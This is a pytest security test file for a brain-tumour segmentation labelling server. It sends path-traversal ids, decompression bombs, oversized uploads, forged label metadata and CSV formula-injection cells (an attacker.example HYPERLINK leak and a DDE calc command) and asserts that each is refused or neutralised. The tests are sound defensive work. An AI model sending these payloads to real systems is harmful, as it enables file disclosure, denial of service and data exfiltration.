"""Hostile requests to a running server: paths as ids, hostile uploads, forged fields, formula cells.

Each is refused with a 4xx that says what was wrong, and nothing on disk changes: every file under the
test's folder (studies, workspace, a canary beside them) is fingerprinted before and compared after.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import shutil
import socket
from pathlib import Path
from urllib.parse import urlsplit

import nibabel as nib
import numpy as np
import pydicom
import pytest
import requests

pytestmark = pytest.mark.server

STUDY = "BraTS-GLI-00004-000"  # labelled in the sample
UNLABELLED = "BraTS-GLI-00005-000"
# ids and tags that must never become a path: traversal, encodings, absolute paths, NUL, layout names
HOSTILE_IDS = (
    "../../model/serving",
    "..",
    ".",
    "%2e%2e%2f%2e%2e%2fmodel",
    "..%2F..%2Fmodel",
    "/etc/passwd",
    "//etc/passwd",
    "C:\\Windows\\win.ini",
    "a\x00b",
    "imagesTr",
    "labelsTr",
    ".brats_label",
    "label_store",
    "model",
    STUDY + "/../" + UNLABELLED,
    "~root",
    "x" * 300,
)
HOSTILE_TAGS = ("../final", "final/..", "/tmp", "..", "final\x00", "a b", "labelsTr")


@pytest.fixture(scope="module")
def workdir(studies_2mm, tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    shutil.copytree(studies_2mm, root / "studies", ignore=shutil.ignore_patterns(".brats_label"))
    (root / "canary.txt").write_text("outside the studies folder")
    return root


@pytest.fixture(scope="module")
def server(workdir, server_factory):
    return server_factory(workdir / "studies", retrain_after_labels=0, max_upload_mb=8)


def fingerprint(root: Path) -> dict:
    """Every file under root (hidden ones too) by its content; logs excluded (the server writes them)."""
    out = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and "logs" not in path.parts and path.suffix != ".log":
            out[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _raw_request(url: str, method: str, target: str, headers: dict, body: bytes = b"") -> tuple:
    """A request sent as written (no client re-encoding its path or fixing its Content-Length)."""
    parts = urlsplit(url)
    with socket.create_connection((parts.hostname, parts.port), timeout=60) as s:
        lines = [f"{method} {target} HTTP/1.1", f"Host: {parts.hostname}:{parts.port}", "Connection: close", *(f"{k}: {v}" for k, v in headers.items()), "", ""]
        data = b""
        try:
            s.sendall("\r\n".join(lines).encode("latin-1"))
            for start in range(0, len(body), 65536):
                s.sendall(body[start : start + 65536])
        except (ConnectionResetError, BrokenPipeError):
            pass  # the server answered and closed before taking the whole body: its answer may be waiting
        try:
            while chunk := s.recv(65536):
                data += chunk
        except ConnectionResetError:
            pass
    if not data:
        return 0, "the server closed the connection without an answer"
    head, _, payload = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), payload.decode("utf-8", "replace")


def _id_routes(value: str, tag: str = "final"):
    """Every datastore route (and the others that take a study or label id), with ``value`` as the id."""
    yield "GET", "/datastore/image", {"image": value}
    yield "HEAD", "/datastore/image", {"image": value}
    yield "GET", "/datastore/image/info", {"image": value}
    yield "PUT", "/datastore/image/info", {"image": value}
    yield "GET", "/datastore/label", {"label": value, "tag": tag}
    yield "HEAD", "/datastore/label", {"label": value, "tag": tag}
    yield "GET", "/datastore/label/info", {"label": value, "tag": tag}
    yield "PUT", "/datastore/label/info", {"label": value, "tag": tag}
    yield "PUT", "/datastore/updatelabelinfo", {"label": value, "tag": tag}
    yield "DELETE", "/datastore/label", {"id": value, "tag": tag}
    yield "PUT", "/datastore/label", {"image": value, "tag": tag}
    yield "POST", "/infer/segmentation", {"image": value}


def _send(server, method, path, params, label_file: Path) -> requests.Response:
    if method == "PUT" and path == "/datastore/label":
        with open(label_file, "rb") as f:
            return requests.put(server.url + path, params=params, data={"params": "{}"}, files={"label": ("label.nii.gz", f)}, timeout=60)
    if method == "PUT":
        return requests.put(server.url + path, params=params, data={"info": json.dumps({"user": "x"}), "params": json.dumps({"user": "x"})}, timeout=60)
    return requests.request(method, server.url + path, params=params, timeout=60)


def _label_file(server, tmp_path: Path, study: str = STUDY) -> Path:
    reference = nib.load(str(server.studies / study / f"{study}-t1c.nii.gz"))
    label = np.zeros(reference.shape, np.uint8)
    label[30:40, 30:40, 20:26] = 2
    path = tmp_path / "label.nii.gz"
    nib.save(nib.Nifti1Image(label, reference.affine), str(path))
    return path


def test_ids_and_tags_that_are_paths_are_refused_on_every_route_and_change_nothing(server, workdir, tmp_path):
    label_file = _label_file(server, tmp_path)
    before = fingerprint(workdir)
    tried, accepted = 0, []
    for value in HOSTILE_IDS:
        for method, path, params in _id_routes(value):
            answer = _send(server, method, path, params, label_file)
            tried += 1
            if not 400 <= answer.status_code < 500:
                accepted.append((method, path, value, answer.status_code, answer.text[:200]))
    for tag in HOSTILE_TAGS:
        for method, path, params in _id_routes(STUDY, tag):
            if "tag" not in params:
                continue
            answer = _send(server, method, path, params, label_file)
            tried += 1
            if not 400 <= answer.status_code < 500:
                accepted.append((method, path, tag, answer.status_code, answer.text[:200]))
    print(f"{tried} hostile ids and tags tried on {len(list(_id_routes('x')))} routes")
    assert not accepted, "\n".join(map(str, accepted))
    assert fingerprint(workdir) == before, "a refused request changed a file"


@pytest.mark.parametrize(
    "target",
    [
        "/datastore/label/info/..%2F..%2Fmodel",
        "/proxy/dicom/..%2Fpatients%3Fexpand",
        "/proxy/dicom/%2e%2e/tools/reset",
        "/ohif/..%2F..%2F..%2Fetc%2Fpasswd",
        "/ohif//etc/passwd",
        "/ohif/../../../../etc/passwd",
        "/datastore/image%00",
        "/session/..%5C..%5Ctmp",
    ],
)
def test_encoded_paths_are_refused_before_any_route(server, target):
    status, body = _raw_request(server.url, "GET", target, {})
    assert status in (400, 404) and "root:" not in body, (status, body[:200])


def test_a_request_body_over_the_limit_is_refused_before_it_is_read(server, workdir):
    before = fingerprint(workdir)
    declared = 64 * 2**20  # the server runs with max_upload_mb 8
    status, body = _raw_request(
        server.url, "PUT", f"/datastore/label?image={STUDY}&tag=final", {"Content-Length": str(declared), "Content-Type": "multipart/form-data; boundary=x"}, b"--x\r\n"
    )
    assert status == 413 and "max_upload_mb" in body
    chunk = b"0" * (1 << 20)
    chunked = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for _ in range(10)) + b"0\r\n\r\n"
    status, body = _raw_request(
        server.url, "PUT", f"/datastore/label?image={STUDY}&tag=final", {"Transfer-Encoding": "chunked", "Content-Type": "multipart/form-data; boundary=x"}, chunked
    )
    assert status == 413, body
    assert fingerprint(workdir) == before


def _put(server, name: str, content: bytes, study: str = UNLABELLED, params: dict | None = None) -> requests.Response:
    return requests.put(
        f"{server.url}/datastore/label",
        params={"image": study, "tag": "final"},
        data={"params": json.dumps(params or {})},
        files={"label": (name, io.BytesIO(content))},
        timeout=60,
    )


def test_nrrd_pointing_at_a_server_file_is_refused_without_reading_it(server, workdir):
    secret = workdir / "canary.txt"
    header = f"NRRD0004\ntype: uint8\ndimension: 3\nsizes: 4 4 1\nspace: left-posterior-superior\nspace directions: (2,0,0) (0,2,0) (0,0,2)\nspace origin: (0,0,0)\nencoding: raw\ndata file: {secret}\n\n"
    answer = _put(server, "label.nrrd", header.encode())
    assert answer.status_code == 422 and "separate data file" in answer.text
    assert "outside" not in answer.text and str(len(secret.read_text())) not in answer.text, "nothing of the file is given away"


def test_headers_that_declare_huge_volumes_are_refused_before_decoding(server):
    huge_nrrd = (
        b"NRRD0004\ntype: uint8\ndimension: 3\nsizes: 2000 2000 2000\nspace: left-posterior-superior\nspace directions: (1,0,0) (0,1,0) (0,0,1)\nspace origin: (0,0,0)\nencoding: gzip\n\n"
        + gzip.compress(b"\0" * 1000)
    )
    answer = _put(server, "label.nrrd", huge_nrrd)
    assert answer.status_code == 422 and "declares 8000000000 voxels" in answer.text, answer.text

    header = nib.Nifti1Header()
    header.set_data_shape((2000, 2000, 2000))
    header.set_data_dtype(np.uint8)
    buffer = io.BytesIO()
    buffer.write(header.binaryblock + b"\0" * 4 + b"\0" * 1000)
    answer = _put(server, "label.nii.gz", gzip.compress(buffer.getvalue()))
    assert answer.status_code == 422 and "grid" in answer.text, answer.text


def test_gzip_data_beyond_the_declared_size_is_refused(server):
    reference = nib.load(str(server.studies / UNLABELLED / f"{UNLABELLED}-t1c.nii.gz"))
    x, y, z = reference.shape
    lps = np.diag([-1, -1, 1, 1]) @ reference.affine
    directions = " ".join("(" + ",".join(str(v) for v in lps[:3, i]) + ")" for i in range(3))
    origin = "(" + ",".join(str(v) for v in lps[:3, 3]) + ")"
    head = f"NRRD0004\ntype: uint8\ndimension: 3\nsizes: {x} {y} {z}\nspace: left-posterior-superior\nspace directions: {directions}\nspace origin: {origin}\nencoding: gzip\n\n"
    bomb = gzip.compress(b"\0" * (x * y * z * 50))  # fifty times what the header declares, a few kB compressed
    answer = _put(server, "label.nrrd", head.encode() + bomb)
    assert answer.status_code == 422 and "more than" in answer.text, answer.text


def test_a_seg_with_more_frames_than_the_study_has_slices_is_refused_before_decoding(server, tmp_path):
    ds = pydicom.Dataset()
    ds.file_meta = pydicom.dataset.FileMetaDataset()
    ds.file_meta.TransferSyntaxUID = pydicom.uid.ExplicitVRLittleEndian
    ds.file_meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.66.4"
    ds.file_meta.MediaStorageSOPInstanceUID = pydicom.uid.generate_uid()
    ds.SOPClassUID, ds.SOPInstanceUID, ds.Modality = ds.file_meta.MediaStorageSOPClassUID, ds.file_meta.MediaStorageSOPInstanceUID, "SEG"
    ds.NumberOfFrames, ds.Rows, ds.Columns, ds.BitsAllocated = 100000, 120, 120, 1
    ds.PixelData = b"\0" * 16
    path = tmp_path / "seg.dcm"
    pydicom.dcmwrite(str(path), ds, write_like_original=False)
    answer = _put(server, "seg.dcm", path.read_bytes())
    assert answer.status_code == 422 and "100000 frames" in answer.text, answer.text


def test_fields_the_server_computes_cannot_be_forged(server, tmp_path):
    forged = {"source": "imported", "dice_WT": 1.0, "prelabel_model_version": "v99", "authenticated": True, "saved_at": "2000-01-01", "voxels": {"edema": 1}}
    answer = _put(server, "label.nii.gz", _label_file(server, tmp_path, UNLABELLED).read_bytes(), params={**forged, "user": "dr_forger"})
    assert answer.status_code == 200, answer.text
    info = requests.get(f"{server.url}/datastore/label/info", params={"label": UNLABELLED, "tag": "final"}, timeout=30).json()
    assert info["source"] == "submitted" and info["authenticated"] is False and info["saved_at"] != "2000-01-01"
    assert "dice_WT" not in info and info.get("prelabel_model_version") != "v99" and info["voxels"]["edema"] > 1
    retrain = requests.get(f"{server.url}/brats/training", timeout=30).json()["retrain"]
    assert retrain["new_labels"] >= 1, "the label counts towards retraining whatever source the client claimed"
    updated = requests.put(
        f"{server.url}/datastore/label/info", params={"label": UNLABELLED, "tag": "final"}, data={"params": json.dumps({"source": "imported", "user": "mallory"})}, timeout=30
    )
    assert updated.status_code == 200, updated.text
    info = requests.get(f"{server.url}/datastore/label/info", params={"label": UNLABELLED, "tag": "final"}, timeout=30).json()
    assert info["source"] == "submitted" and info["user"] == "dr_forger"


def test_the_audit_csv_never_holds_a_formula(server, tmp_path):
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    answer = _put(server, "label.nii.gz", _label_file(server, tmp_path).read_bytes(), study=STUDY, params={"user": formula, "client_id": "+cmd|' /C calc'!A0"})
    assert answer.status_code == 200, answer.text
    csv = requests.get(f"{server.url}/brats/audit", params={"format": "csv"}, timeout=30).text
    cells = [cell for line in csv.splitlines() for cell in line.split(",")]
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@"))], csv
    assert "'=HYPERLINK" in csv and "'+cmd" in csv, "the text is kept, made inert"


def test_pre_labels_are_never_stored_as_labels_and_scoring_never_runs_in_the_server(server):
    answer = requests.post(f"{server.url}/scoring/uncertainty", params={"run_sync": "true"}, json={}, timeout=60)
    assert answer.status_code == 422 and "background" in answer.text
    answer = requests.post(f"{server.url}/train/segmentation", params={"run_sync": "true"}, json={}, timeout=60)
    assert answer.status_code == 422 and "background" in answer.text
